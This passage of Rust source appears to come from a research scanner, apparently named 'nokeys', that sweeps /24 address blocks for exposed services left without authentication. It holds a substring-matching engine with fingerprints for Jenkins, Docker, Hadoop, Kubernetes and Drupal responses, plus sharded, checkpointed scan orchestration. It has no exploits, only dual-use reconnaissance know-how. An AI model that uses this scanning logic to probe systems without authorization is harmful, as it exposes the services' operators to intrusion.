        w0.workers = None;
        w4.workers = Some(4);
        assert_eq!(
            ConfigFingerprint::of(&w0.to_builder().build()),
            ConfigFingerprint::of(&w4.to_builder().build())
        );
    }
}
