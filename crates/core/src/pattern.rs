//! The small text-matching engine behind the prefilter signatures and
//! the plugin checks.
//!
//! Three match modes cover everything the paper's checks need:
//! exact substring, ASCII-case-insensitive substring (Docker, Hadoop),
//! and whitespace-stripped substring (Drupal, Kubernetes — "remove all
//! whitespace from response, as their placement differs across
//! versions"). [`PreparedBody`] precomputes the lowered and squashed
//! views once so that running 90 signatures against a body costs 90
//! substring searches, not 90 transformations.

use serde::Serialize;

/// How a pattern is compared against a body.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum MatchMode {
    /// Byte-exact substring.
    Exact,
    /// ASCII-case-insensitive substring.
    IgnoreCase,
    /// Substring after stripping *all* whitespace from both sides.
    IgnoreWhitespace,
}

/// A search pattern.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
pub struct Pattern {
    pub needle: &'static str,
    pub mode: MatchMode,
}

impl Pattern {
    /// Exact substring pattern.
    pub const fn exact(needle: &'static str) -> Self {
        Pattern {
            needle,
            mode: MatchMode::Exact,
        }
    }

    /// Case-insensitive pattern (the needle itself must be lowercase).
    pub const fn nocase(needle: &'static str) -> Self {
        Pattern {
            needle,
            mode: MatchMode::IgnoreCase,
        }
    }

    /// Whitespace-insensitive pattern (the needle must already contain no
    /// whitespace).
    pub const fn nospace(needle: &'static str) -> Self {
        Pattern {
            needle,
            mode: MatchMode::IgnoreWhitespace,
        }
    }

    /// Match against a prepared body.
    pub fn matches(&self, body: &PreparedBody) -> bool {
        match self.mode {
            MatchMode::Exact => body.raw.contains(self.needle),
            MatchMode::IgnoreCase => {
                debug_assert_eq!(
                    self.needle,
                    self.needle.to_ascii_lowercase(),
                    "nocase needles must be lowercase"
                );
                body.lower().contains(self.needle)
            }
            MatchMode::IgnoreWhitespace => {
                debug_assert!(
                    !self.needle.chars().any(|c| c.is_whitespace()),
                    "nospace needles must contain no whitespace"
                );
                body.squashed().contains(self.needle)
            }
        }
    }

    /// Match directly against a borrowed string (one-off use). Unlike
    /// [`Pattern::matches`] this never copies the haystack: exact mode
    /// is a plain substring search, and the case-/whitespace-insensitive
    /// modes scan in place instead of materializing a transformed view.
    pub fn matches_str(&self, body: &str) -> bool {
        match self.mode {
            MatchMode::Exact => body.contains(self.needle),
            MatchMode::IgnoreCase => {
                debug_assert_eq!(
                    self.needle,
                    self.needle.to_ascii_lowercase(),
                    "nocase needles must be lowercase"
                );
                contains_ignore_ascii_case(body, self.needle)
            }
            MatchMode::IgnoreWhitespace => {
                debug_assert!(
                    !self.needle.chars().any(|c| c.is_whitespace()),
                    "nospace needles must contain no whitespace"
                );
                contains_ignore_whitespace(body, self.needle)
            }
        }
    }
}

/// ASCII-case-insensitive substring search without allocating a lowered
/// copy of the haystack. Equivalent to
/// `hay.to_ascii_lowercase().contains(needle)` for lowercase needles.
fn contains_ignore_ascii_case(hay: &str, needle: &str) -> bool {
    let n = needle.as_bytes();
    if n.is_empty() {
        return true;
    }
    if hay.len() < n.len() {
        return false;
    }
    hay.as_bytes()
        .windows(n.len())
        .any(|w| w.eq_ignore_ascii_case(n))
}

/// Whitespace-insensitive substring search without materializing the
/// squashed view. Equivalent to searching for `needle` in
/// `hay.chars().filter(|c| !c.is_whitespace())`.
fn contains_ignore_whitespace(hay: &str, needle: &str) -> bool {
    if needle.is_empty() {
        return true;
    }
    let mut start = hay.chars().filter(|c| !c.is_whitespace());
    loop {
        let mut h = start.clone();
        let mut n = needle.chars();
        loop {
            match n.next() {
                None => return true,
                Some(nc) => {
                    if h.next() != Some(nc) {
                        break;
                    }
                }
            }
        }
        if start.next().is_none() {
            return false;
        }
    }
}

/// A body with lazily computed lowered / whitespace-stripped views.
///
/// The raw text is a [`Cow`](std::borrow::Cow): signature matching
/// over a fetched response borrows the response body in place
/// (via [`Response::body_str`](nokeys_http::Response::body_str))
/// instead of copying it, and only the lowered/squashed views — when a
/// signature actually needs them *and* the raw text is not already in
/// canonical form — allocate. A body with no ASCII uppercase serves
/// `lower()` straight from `raw`; a body with no whitespace serves
/// `squashed()` the same way (the cell caches `None` so the scan runs
/// once).
#[derive(Debug)]
pub struct PreparedBody<'a> {
    pub raw: std::borrow::Cow<'a, str>,
    lower: std::cell::OnceCell<Option<String>>,
    squashed: std::cell::OnceCell<Option<String>>,
}

impl<'a> PreparedBody<'a> {
    pub fn new(raw: impl Into<std::borrow::Cow<'a, str>>) -> Self {
        PreparedBody {
            raw: raw.into(),
            lower: Default::default(),
            squashed: Default::default(),
        }
    }

    /// Lowercased view. Computed (and allocated) at most once, and not
    /// at all when the raw body contains no ASCII uppercase.
    pub fn lower(&self) -> &str {
        match self.lower.get_or_init(|| {
            crate::scratch::needs_lower(&self.raw).then(|| self.raw.to_ascii_lowercase())
        }) {
            Some(view) => view,
            None => &self.raw,
        }
    }

    /// Whitespace-stripped view. Computed byte-wise at most once, and
    /// not at all when the raw body contains no whitespace.
    pub fn squashed(&self) -> &str {
        match self.squashed.get_or_init(|| {
            crate::scratch::needs_squash(&self.raw).then(|| {
                let mut out = String::with_capacity(self.raw.len());
                crate::scratch::squash_into(&self.raw, &mut out);
                out
            })
        }) {
            Some(view) => view,
            None => &self.raw,
        }
    }

    /// Whether a distinct lowered view has been materialized
    /// (telemetry's "multipattern vs. view" accounting). False when
    /// `lower()` was answered by the raw body in place.
    pub fn lower_materialized(&self) -> bool {
        self.lower.get().is_some_and(Option::is_some)
    }

    /// Whether a distinct whitespace-stripped view has been
    /// materialized.
    pub fn squashed_materialized(&self) -> bool {
        self.squashed.get().is_some_and(Option::is_some)
    }
}

impl<'a> From<&'a str> for PreparedBody<'a> {
    fn from(s: &'a str) -> Self {
        PreparedBody::new(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn exact_matching() {
        let body = PreparedBody::from("The Admin plugin has been installed");
        assert!(Pattern::exact("Admin plugin").matches(&body));
        assert!(!Pattern::exact("admin plugin").matches(&body));
    }

    #[test]
    fn case_insensitive_matching() {
        let body = PreparedBody::from("MinAPIVersion: 1.12, KernelVersion: 5.4");
        assert!(Pattern::nocase("minapiversion").matches(&body));
        assert!(Pattern::nocase("kernelversion").matches(&body));
        assert!(!Pattern::nocase("dockerversion").matches(&body));
    }

    #[test]
    fn whitespace_stripped_matching() {
        let body = PreparedBody::from("<li class=\"is-active\">\n    Set up database\n  </li>");
        assert!(Pattern::nospace("<liclass=\"is-active\">Setupdatabase").matches(&body));
        // Newlines inside the needle region don't matter.
        let tight = PreparedBody::from("<li class=\"is-active\">Set up database</li>");
        assert!(Pattern::nospace("<liclass=\"is-active\">Setupdatabase").matches(&tight));
    }

    #[test]
    fn prepared_body_borrows_without_copying() {
        let text = String::from("Dashboard [Jenkins]");
        let body = PreparedBody::new(text.as_str());
        assert!(matches!(body.raw, std::borrow::Cow::Borrowed(_)));
        assert!(Pattern::exact("Jenkins").matches(&body));
        assert!(
            !body.lower_materialized() && !body.squashed_materialized(),
            "exact matching must not materialize any transformed view"
        );
    }

    #[test]
    fn prepared_views_are_cached_and_consistent() {
        let body = PreparedBody::from("A b\tC\nd");
        assert_eq!(body.lower(), "a b\tc\nd");
        assert_eq!(body.squashed(), "AbCd");
        // Second call returns the same data (cache hit).
        assert_eq!(body.lower(), "a b\tc\nd");
        assert!(body.lower_materialized() && body.squashed_materialized());
    }

    #[test]
    fn canonical_bodies_serve_views_without_materializing() {
        // No ASCII uppercase: lower() is the raw body, borrowed.
        let body = PreparedBody::from("already lowercase ä 123");
        assert_eq!(body.lower(), "already lowercase ä 123");
        assert!(
            !body.lower_materialized(),
            "uppercase-free body must not allocate a lowered view"
        );
        // But it does contain whitespace, so squashed still copies.
        assert_eq!(body.squashed(), "alreadylowercaseä123");
        assert!(body.squashed_materialized());

        // No whitespace: squashed() is the raw body, borrowed.
        let tight = PreparedBody::from("NoWhitespaceHere");
        assert_eq!(tight.squashed(), "NoWhitespaceHere");
        assert!(!tight.squashed_materialized());
        assert_eq!(tight.lower(), "nowhitespacehere");
        assert!(tight.lower_materialized());
    }

    proptest! {
        /// Exact mode agrees with `str::contains`.
        #[test]
        fn exact_agrees_with_reference(haystack in ".{0,100}") {
            let needle = "Jenkins";
            let p = Pattern::exact(needle);
            prop_assert_eq!(p.matches_str(&haystack), haystack.contains(needle));
        }

        /// Case-insensitive mode agrees with lowercase reference.
        #[test]
        fn nocase_agrees_with_reference(haystack in "[a-zA-Z0-9 ]{0,100}") {
            let needle = "hadoop";
            let p = Pattern::nocase(needle);
            prop_assert_eq!(
                p.matches_str(&haystack),
                haystack.to_ascii_lowercase().contains(needle)
            );
        }

        /// The allocation-free `matches_str` agrees with the
        /// `PreparedBody`-based matcher in every mode, including on
        /// non-ASCII haystacks with exotic whitespace.
        #[test]
        fn matches_str_agrees_with_prepared(haystack in "[a-zA-Z \t\n\u{a0}\u{2028}éβ.:\"{}]{0,120}") {
            for p in [
                Pattern::exact("Jenkins"),
                Pattern::nocase("hadoop"),
                Pattern::nospace("k8s.io"),
                Pattern::nospace("\"kind\":\"Status\""),
            ] {
                let prepared = PreparedBody::new(haystack.clone());
                prop_assert_eq!(
                    p.matches_str(&haystack),
                    p.matches(&prepared),
                    "{:?} on {:?}", p, haystack
                );
            }
        }

        /// The borrow-when-canonical and byte-wise-squash micro-fixes
        /// change representation, never content: both views equal the
        /// old `to_ascii_lowercase` / `chars().filter().collect()`
        /// reference on arbitrary bodies.
        #[test]
        fn views_equal_allocating_reference(haystack in "[a-zA-Z \t\n\u{a0}\u{2028}éβ.:\"{}]{0,120}") {
            let body = PreparedBody::new(haystack.clone());
            prop_assert_eq!(body.lower(), haystack.to_ascii_lowercase());
            let squash_ref: String = haystack.chars().filter(|c| !c.is_whitespace()).collect();
            prop_assert_eq!(body.squashed(), squash_ref);
            // A view materializes iff the body is not already canonical.
            prop_assert_eq!(
                body.lower_materialized(),
                crate::scratch::needs_lower(&haystack)
            );
            prop_assert_eq!(
                body.squashed_materialized(),
                crate::scratch::needs_squash(&haystack)
            );
        }

        /// Whitespace mode is invariant under whitespace insertion.
        #[test]
        fn nospace_invariant_under_whitespace(
            prefix in "[a-z]{0,10}",
            ws in proptest::collection::vec(prop_oneof![Just(' '), Just('\n'), Just('\t')], 0..5),
        ) {
            // Insert whitespace into the middle of the marker.
            let marker = "certificates.k8s.io";
            let mid = 5;
            let ws_str: String = ws.iter().collect();
            let body = format!("{prefix}{}{}{}", &marker[..mid], ws_str, &marker[mid..]);
            let p = Pattern::nospace(marker);
            prop_assert!(p.matches_str(&body));
        }
    }
}
