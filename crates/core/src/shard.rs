//! Sharded scan orchestration with work-stealing.
//!
//! A single [`Pipeline`](crate::pipeline::Pipeline) streams the whole
//! target space through one consumer loop, so `parallelism` only helps
//! *inside* a batch. This module splits the deterministic batch
//! sequence (the seeded /24 shuffle chunked by
//! [`blocks_per_batch`](crate::pipeline::PipelineConfig::blocks_per_batch))
//! into [`PipelineConfig::shards`](crate::pipeline::PipelineConfig::shards)
//! contiguous ranges, scans each range with an independent worker task
//! running the existing streaming stages over its slice, and reduces
//! the per-worker partial results into one [`ScanReport`] and one
//! telemetry snapshot — byte-identical to the single-pipeline run at
//! any shard count.
//!
//! # Why the merge is order-independent
//!
//! Every piece of scan state is either an **order-free sum** or
//! **keyed by batch sequence**:
//!
//! * All [`ScanReport`] fields except `findings` are counters (or
//!   per-port counter maps); [`ScanReport::absorb`] adds them, and
//!   addition commutes.
//! * `findings` are ordered by stage-I batch sequence, and each batch
//!   is processed entirely by one worker — so sorting the per-worker
//!   segments by their starting batch index and appending reconstructs
//!   the single-run findings order exactly.
//! * Telemetry snapshots are sums too (counters add, histogram buckets
//!   add, timers add events and virtual units), so absorbing the
//!   workers' private staging registries in *any* order yields the
//!   single-run registry (see `telemetry_determinism` tests).
//! * Fault injection keys its draws per `(endpoint, lane, attempt
//!   ordinal)`, never on global execution order, and every endpoint's
//!   operations happen inside exactly one worker in the same relative
//!   order as a sequential run — so fault-injected replays shard
//!   exactly, too.
//!
//! Which worker runs which batch is timing-dependent, so nothing about
//! shard scheduling may enter the telemetry registry. Work-stealing
//! observability travels out-of-band in [`ShardStats`] instead.
//!
//! # Work-stealing
//!
//! The planned ranges live on a shared [`WorkQueue`]. A worker drains
//! one range at a time by advancing its `next` cursor; an idle worker
//! first takes any not-yet-claimed planned range, then *steals* the
//! tail half of the largest remainder. Because a range only ever loses
//! its tail, each (worker, range) episode claims a contiguous run of
//! batch indices — one [`ShardSegment`] — and the deterministic merge
//! above applies unchanged no matter how aggressively work moves
//! between workers.
//!
//! # Per-shard checkpoints
//!
//! With a checkpoint path configured, worker *k* persists its finished
//! segments (plus the in-progress one) to `<path>.shard-k` every
//! [`checkpoint_every`](crate::pipeline::PipelineConfig::checkpoint_every)
//! batches, atomically (write-temp-then-rename), synchronously between
//! awaits — an abort can never tear a file. Resume gathers the legacy
//! base checkpoint (as the segment `[0, batches_done)`) and every
//! `<path>.shard-*` file, dedupes, consolidates the inherited segments
//! into `<path>.shard-base` (so a worker overwriting its numbered file
//! cannot lose prior-generation work), and plans new ranges over the
//! *complement* — only unfinished work is rescanned. The shard count
//! is not part of [`ConfigFingerprint`], so a checkpoint taken at
//! `--shards 4` resumes at `--shards 8` (or 1). A completed sharded
//! run writes one finished legacy [`ScanCheckpoint`] at the base path
//! and removes its shard files.

use crate::checkpoint::{CheckpointError, ConfigFingerprint, ScanCheckpoint, CHECKPOINT_FORMAT};
use crate::pipeline::{BatchProcessor, PipelineConfig, PipelineError};
use crate::portscan::{Cidr, PortScanner};
use crate::rate::SharedPacer;
use crate::report::ScanReport;
use crate::retry::RetryTransport;
use crate::telemetry::{Telemetry, TelemetrySnapshot};
use nokeys_http::{Client, Transport};
use serde::{Deserialize, Serialize};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// On-disk format version of [`ShardCheckpoint`] files.
pub const SHARD_CHECKPOINT_FORMAT: u32 = 1;

/// One contiguous run of completed batches: the partial report and the
/// telemetry recorded while processing exactly those batches.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ShardSegment {
    /// First batch index covered (inclusive).
    pub start_batch: u64,
    /// One past the last batch index covered.
    pub end_batch: u64,
    /// Report accumulated over `[start_batch, end_batch)`.
    pub report: ScanReport,
    /// Telemetry delta recorded over the same batches.
    pub telemetry: TelemetrySnapshot,
}

impl ShardSegment {
    pub(crate) fn len(&self) -> u64 {
        self.end_batch.saturating_sub(self.start_batch)
    }
}

/// Persistent state of one shard worker (or the consolidated inherited
/// state, at `<path>.shard-base`).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ShardCheckpoint {
    /// On-disk format version ([`SHARD_CHECKPOINT_FORMAT`]).
    pub format: u32,
    /// Fingerprint of the configuration that produced this checkpoint.
    pub fingerprint: ConfigFingerprint,
    /// Batch count of the whole scan under that configuration; a
    /// cross-check that segment indices mean what we think they mean.
    pub total_batches: u64,
    /// Completed segments, in the order the worker finished them.
    pub segments: Vec<ShardSegment>,
}

impl ShardCheckpoint {
    /// Load and parse a per-shard checkpoint file.
    pub fn load(path: &Path) -> Result<Self, CheckpointError> {
        let bytes =
            std::fs::read(path).map_err(|e| CheckpointError::Io(format!("{path:?}: {e}")))?;
        let cp: ShardCheckpoint =
            serde_json::from_slice(&bytes).map_err(|e| CheckpointError::Corrupt(e.to_string()))?;
        if cp.format != SHARD_CHECKPOINT_FORMAT {
            return Err(CheckpointError::FormatVersion {
                found: cp.format,
                expected: SHARD_CHECKPOINT_FORMAT,
            });
        }
        Ok(cp)
    }

    /// Write the checkpoint atomically (serialize to `<path>.tmp`, then
    /// rename), like [`ScanCheckpoint::save`].
    pub fn save(&self, path: &Path) -> Result<(), CheckpointError> {
        let bytes = serde_json::to_vec(self).map_err(|e| CheckpointError::Io(e.to_string()))?;
        let mut tmp = path.as_os_str().to_owned();
        tmp.push(".tmp");
        let tmp = PathBuf::from(tmp);
        std::fs::write(&tmp, &bytes).map_err(|e| CheckpointError::Io(format!("{tmp:?}: {e}")))?;
        std::fs::rename(&tmp, path).map_err(|e| CheckpointError::Io(format!("{path:?}: {e}")))
    }

    /// Reject the checkpoint unless it was produced under `current`
    /// over the same batch sequence.
    pub fn validate(
        &self,
        current: &ConfigFingerprint,
        total_batches: u64,
    ) -> Result<(), CheckpointError> {
        if let Some(knob) = self.fingerprint.first_mismatch(current) {
            return Err(CheckpointError::ConfigMismatch(knob.to_string()));
        }
        if self.total_batches != total_batches {
            return Err(CheckpointError::Corrupt(format!(
                "shard checkpoint covers a {}-batch scan, this scan has {total_batches}",
                self.total_batches
            )));
        }
        Ok(())
    }
}

/// Out-of-band observability of one sharded run.
///
/// These numbers are timing-dependent (which worker claimed which batch
/// depends on scheduling), which is exactly why they are returned here
/// and **never** recorded into the telemetry registry: the registry
/// must stay byte-identical across runs.
#[derive(Debug, Clone)]
pub struct ShardStats {
    /// Configured worker count.
    pub shards: usize,
    /// Range splits performed because an idle worker took the tail of
    /// a busy worker's remainder.
    pub steals: u64,
    /// Batches completed by each worker (indexed by worker id); sums to
    /// the batch count scanned this run.
    pub batches_by_worker: Vec<u64>,
    /// Stage-I probes sent by each worker; sums to the single-pipeline
    /// probe count on a fresh run.
    pub probes_by_worker: Vec<u64>,
}

impl ShardStats {
    pub(crate) fn idle(shards: usize) -> Self {
        ShardStats {
            shards,
            steals: 0,
            batches_by_worker: vec![0; shards],
            probes_by_worker: vec![0; shards],
        }
    }
}

/// `<base>.shard-<worker>` — worker `k`'s checkpoint file.
pub(crate) fn shard_worker_path(base: &Path, worker: usize) -> PathBuf {
    extend_path(base, &format!(".shard-{worker}"))
}

/// `<base>.shard-base` — segments inherited from earlier generations,
/// consolidated at resume time.
pub(crate) fn shard_base_path(base: &Path) -> PathBuf {
    extend_path(base, ".shard-base")
}

fn extend_path(base: &Path, suffix: &str) -> PathBuf {
    let mut s = base.as_os_str().to_owned();
    s.push(suffix);
    PathBuf::from(s)
}

/// Every `<base>.shard-*` checkpoint file currently on disk (sorted;
/// in-flight `.tmp` siblings excluded). Used both to load resumable
/// shard state and to decide whether [`Pipeline::resume`] must route
/// through the shard engine even at `shards = 1`.
///
/// [`Pipeline::resume`]: crate::pipeline::Pipeline::resume
pub fn existing_shard_files(base: &Path) -> Vec<PathBuf> {
    let Some(name) = base.file_name().and_then(|n| n.to_str()) else {
        return Vec::new();
    };
    let prefix = format!("{name}.shard-");
    let dir = match base.parent() {
        Some(p) if !p.as_os_str().is_empty() => p.to_path_buf(),
        _ => PathBuf::from("."),
    };
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut out: Vec<PathBuf> = entries
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_str()
                .is_some_and(|n| n.starts_with(&prefix) && !n.ends_with(".tmp"))
        })
        .map(|e| e.path())
        .collect();
    out.sort();
    out
}

/// One planned (or stolen) range of batch indices on the shared queue.
#[derive(Debug)]
struct RangeState {
    /// Next batch to claim.
    next: u64,
    /// One past the last claimable batch; only ever *reduced* (by a
    /// steal), so the batches a range hands out are always contiguous.
    end: u64,
    /// Whether a worker has taken ownership of this range.
    claimed: bool,
}

/// The shared work-stealing queue: planned ranges plus every range
/// split off by a steal.
struct WorkQueue {
    ranges: Mutex<Vec<RangeState>>,
    steals: AtomicU64,
}

impl WorkQueue {
    fn new(initial: Vec<(u64, u64)>) -> Self {
        WorkQueue {
            ranges: Mutex::new(
                initial
                    .into_iter()
                    .map(|(next, end)| RangeState {
                        next,
                        end,
                        claimed: false,
                    })
                    .collect(),
            ),
            steals: AtomicU64::new(0),
        }
    }

    /// Take ownership of a non-empty range: first any not-yet-claimed
    /// planned range, else split the tail half off the largest
    /// remainder (a steal). `None` means all work is claimed and will
    /// be finished by the workers already running.
    fn take(&self) -> Option<usize> {
        let mut ranges = self.ranges.lock().expect("work queue lock never poisoned");
        if let Some(rid) = ranges.iter().position(|r| !r.claimed && r.next < r.end) {
            ranges[rid].claimed = true;
            return Some(rid);
        }
        let (victim, remaining) = ranges
            .iter()
            .enumerate()
            .map(|(i, r)| (i, r.end.saturating_sub(r.next)))
            .max_by_key(|&(_, remaining)| remaining)?;
        if remaining == 0 {
            return None;
        }
        // The thief takes the tail half, rounded up; stealing may leave
        // the victim's range empty, but never touches the batch the
        // victim is currently running (claiming already advanced `next`
        // past it), so both segments stay contiguous.
        let mid = ranges[victim].next + remaining / 2;
        let end = ranges[victim].end;
        ranges[victim].end = mid;
        ranges.push(RangeState {
            next: mid,
            end,
            claimed: true,
        });
        self.steals.fetch_add(1, Ordering::Relaxed);
        Some(ranges.len() - 1)
    }

    /// Claim the next batch of range `rid`. Only the range's owner
    /// calls this, so each range drains as one contiguous run.
    fn claim(&self, rid: usize) -> Option<u64> {
        let mut ranges = self.ranges.lock().expect("work queue lock never poisoned");
        let r = &mut ranges[rid];
        if r.next < r.end {
            let batch = r.next;
            r.next += 1;
            Some(batch)
        } else {
            None
        }
    }
}

/// One worker's private pipeline: a staged scanner, retry transport and
/// batch processor all recording into a worker-private telemetry
/// registry, sweeping slices of the shared shuffled block list.
struct SegmentRunner<T: Transport + Clone + 'static> {
    staging: Telemetry,
    scanner: PortScanner,
    processor: BatchProcessor,
    client: Client<RetryTransport<T>>,
    blocks: Arc<Vec<Cidr>>,
    blocks_per_batch: usize,
    /// Shared across all workers so `--max-probes-per-sec` stays a
    /// whole-scan bound, not a per-shard one.
    pacer: Option<SharedPacer>,
}

impl<T: Transport + Clone + 'static> SegmentRunner<T> {
    fn new(
        config: &PipelineConfig,
        client: &Client<T>,
        blocks: Arc<Vec<Cidr>>,
        pacer: Option<SharedPacer>,
    ) -> Self {
        let staging = Telemetry::new();
        let scanner = PortScanner::with_telemetry(config.portscan.clone(), &staging);
        let processor = BatchProcessor::new(config, &staging);
        let client = client.with_transport(RetryTransport::new(
            client.transport().clone(),
            config.retry.clone(),
            &staging,
        ));
        SegmentRunner {
            staging,
            scanner,
            processor,
            client,
            blocks,
            blocks_per_batch: config.blocks_per_batch,
            pacer,
        }
    }

    /// Sweep and process batch `seq`, folding its results into
    /// `report`. Returns the stage-I probes sent.
    ///
    /// Replicates the streaming sweep's delivery rule exactly: a full
    /// batch is always processed (even when empty), while the trailing
    /// short batch is processed only if it swept something — matching
    /// `scan_stream`, which never emits an all-skipped tail (its sweep
    /// telemetry still lands in the segment delta, like the legacy
    /// epilogue message).
    async fn run_batch(&self, seq: u64, report: &mut ScanReport) -> u64 {
        let lo = (seq as usize) * self.blocks_per_batch;
        let hi = self.blocks.len().min(lo + self.blocks_per_batch);
        let batch = self
            .scanner
            .scan_blocks(self.client.transport(), &self.blocks[lo..hi], &self.pacer)
            .await;
        let probes = batch.probes_sent;
        let short_tail = hi - lo < self.blocks_per_batch;
        if short_tail && batch.open.is_empty() && batch.probes_sent == 0 {
            return probes;
        }
        BatchProcessor::accumulate_sweep_counts(report, &batch);
        self.processor
            .process_batch(&self.client, batch, report)
            .await;
        probes
    }
}

/// What one worker produced: its finished segments plus scheduling
/// counters for [`ShardStats`].
struct WorkerReport {
    segments: Vec<ShardSegment>,
    batches_done: u64,
    probes_sent: u64,
}

/// Where (and how often) one worker persists its segments.
struct WorkerCheckpoint {
    path: PathBuf,
    every: u64,
    fingerprint: ConfigFingerprint,
    total_batches: u64,
}

impl WorkerCheckpoint {
    fn write(&self, segments: Vec<ShardSegment>) -> Result<(), PipelineError> {
        ShardCheckpoint {
            format: SHARD_CHECKPOINT_FORMAT,
            fingerprint: self.fingerprint.clone(),
            total_batches: self.total_batches,
            segments,
        }
        .save(&self.path)
        .map_err(PipelineError::from)
    }
}

/// One worker: repeatedly take a range from the queue, drain it into a
/// segment, and checkpoint along the way.
async fn drain_queue<T>(
    runner: SegmentRunner<T>,
    queue: Arc<WorkQueue>,
    checkpoint: Option<WorkerCheckpoint>,
) -> Result<WorkerReport, PipelineError>
where
    T: Transport + Clone + 'static,
{
    let mut out = WorkerReport {
        segments: Vec::new(),
        batches_done: 0,
        probes_sent: 0,
    };
    let mut since_start = 0u64;
    while let Some(rid) = queue.take() {
        let mut seg_report = ScanReport::default();
        let seg_base = runner.staging.snapshot();
        let mut seg_range: Option<(u64, u64)> = None;
        while let Some(seq) = queue.claim(rid) {
            out.probes_sent += runner.run_batch(seq, &mut seg_report).await;
            out.batches_done += 1;
            since_start += 1;
            seg_range = Some((seg_range.map_or(seq, |(start, _)| start), seq + 1));
            if let Some(ck) = &checkpoint {
                if since_start % ck.every == 0 {
                    let (start_batch, end_batch) =
                        seg_range.expect("segment has at least one batch");
                    let mut segments = out.segments.clone();
                    segments.push(ShardSegment {
                        start_batch,
                        end_batch,
                        report: seg_report.clone(),
                        telemetry: runner.staging.snapshot().delta_since(&seg_base),
                    });
                    // Synchronous atomic write between awaits: an abort
                    // can never leave a torn shard checkpoint behind.
                    ck.write(segments)?;
                }
            }
        }
        if let Some((start_batch, end_batch)) = seg_range {
            out.segments.push(ShardSegment {
                start_batch,
                end_batch,
                report: std::mem::take(&mut seg_report),
                telemetry: runner.staging.snapshot().delta_since(&seg_base),
            });
        }
    }
    // Final write so a kill after this worker finished (but before the
    // whole run does) loses none of its tail segments.
    if let Some(ck) = &checkpoint {
        if !out.segments.is_empty() {
            ck.write(out.segments.clone())?;
        }
    }
    Ok(out)
}

/// Sort inherited segments, drop exact/contained duplicates (the same
/// deterministic work persisted in both a numbered file and the
/// consolidated base), and reject partial overlaps as corruption.
pub(crate) fn consolidate(
    mut segments: Vec<ShardSegment>,
) -> Result<Vec<ShardSegment>, PipelineError> {
    segments.retain(|s| s.len() > 0);
    segments.sort_by_key(|s| (s.start_batch, std::cmp::Reverse(s.end_batch)));
    let mut out: Vec<ShardSegment> = Vec::new();
    for s in segments {
        if let Some(last) = out.last() {
            if s.end_batch <= last.end_batch {
                // Fully contained in work we already have; identical by
                // determinism, so keep the first copy.
                continue;
            }
            if s.start_batch < last.end_batch {
                return Err(PipelineError::Checkpoint(CheckpointError::Corrupt(
                    format!(
                        "shard segments [{}, {}) and [{}, {}) partially overlap",
                        last.start_batch, last.end_batch, s.start_batch, s.end_batch
                    ),
                )));
            }
        }
        out.push(s);
    }
    Ok(out)
}

/// The batch ranges of `[0, total_batches)` not covered by `covered`
/// (which must be sorted and disjoint — [`consolidate`]'s output).
pub(crate) fn complement(covered: &[ShardSegment], total_batches: u64) -> Vec<(u64, u64)> {
    let mut out = Vec::new();
    let mut cursor = 0u64;
    for s in covered {
        if s.start_batch > cursor {
            out.push((cursor, s.start_batch));
        }
        cursor = cursor.max(s.end_batch);
    }
    if cursor < total_batches {
        out.push((cursor, total_batches));
    }
    out
}

/// Split the remaining ranges into up to `shards` planned queue ranges
/// of near-equal batch count. A quota that straddles a gap in
/// `remaining` yields two queue entries; the queue hands spare entries
/// to whichever worker frees up first, so balance is best-effort and
/// work-stealing evens out the rest.
pub(crate) fn plan_initial_ranges(remaining: &[(u64, u64)], shards: u64) -> Vec<(u64, u64)> {
    let total: u64 = remaining.iter().map(|(s, e)| e - s).sum();
    if total == 0 {
        return Vec::new();
    }
    let shards = shards.clamp(1, total);
    let base = total / shards;
    let extra = total % shards;
    let mut out = Vec::new();
    let mut filled = 0u64;
    let mut quota = base + u64::from(extra > 0);
    for &(start, end) in remaining {
        let mut s = start;
        while s < end {
            let take = (end - s).min(quota);
            out.push((s, s + take));
            s += take;
            quota -= take;
            if quota == 0 {
                filled += 1;
                quota = if filled < shards {
                    base + u64::from(filled < extra)
                } else {
                    u64::MAX
                };
            }
        }
    }
    out
}

/// Scan one contiguous batch range with a fresh worker over a private
/// registry, exactly as a shard worker would, returning its
/// [`ShardSegment`]. Public so tests and benches can build partials to
/// feed [`merge_segments`] in arbitrary orders.
pub async fn scan_segment<T>(
    config: &PipelineConfig,
    client: &Client<T>,
    start_batch: u64,
    end_batch: u64,
) -> ShardSegment
where
    T: Transport + Clone + 'static,
{
    let planner = PortScanner::with_telemetry(config.portscan.clone(), &Telemetry::new());
    let blocks = Arc::new(planner.shuffled_blocks());
    let runner = SegmentRunner::new(config, client, blocks, planner.pacer());
    let mut report = ScanReport::default();
    for seq in start_batch..end_batch {
        runner.run_batch(seq, &mut report).await;
    }
    ShardSegment {
        start_batch,
        end_batch,
        report,
        telemetry: runner.staging.snapshot(),
    }
}

/// The reducer: sort segments by starting batch, verify they are
/// contiguous, then absorb every partial report and telemetry snapshot
/// in address order. Input order is irrelevant — that is the point.
pub fn merge_segments(
    telemetry: &Telemetry,
    mut segments: Vec<ShardSegment>,
) -> Result<ScanReport, PipelineError> {
    segments.sort_by_key(|s| s.start_batch);
    let mut expect = segments.first().map_or(0, |s| s.start_batch);
    for s in &segments {
        if s.start_batch != expect {
            return Err(PipelineError::SweepFailed(format!(
                "shard merge found a coverage gap: expected batch {expect}, got {}",
                s.start_batch
            )));
        }
        expect = s.end_batch;
    }
    let mut report = ScanReport::default();
    for s in segments {
        telemetry.absorb(&s.telemetry);
        report.absorb(s.report);
    }
    Ok(report)
}

/// Number of batches the configured sweep covers. This is the shared
/// contract between the in-process shard tier, the process-tier
/// coordinator, and external `nokeys-worker` processes: all three must
/// agree on the batch count for leased ranges to mean the same thing.
pub fn total_batches(config: &PipelineConfig) -> u64 {
    let planner = PortScanner::with_telemetry(config.portscan.clone(), &Telemetry::new());
    batch_count(planner.shuffled_blocks().len(), config.blocks_per_batch)
}

fn batch_count(blocks: usize, blocks_per_batch: usize) -> u64 {
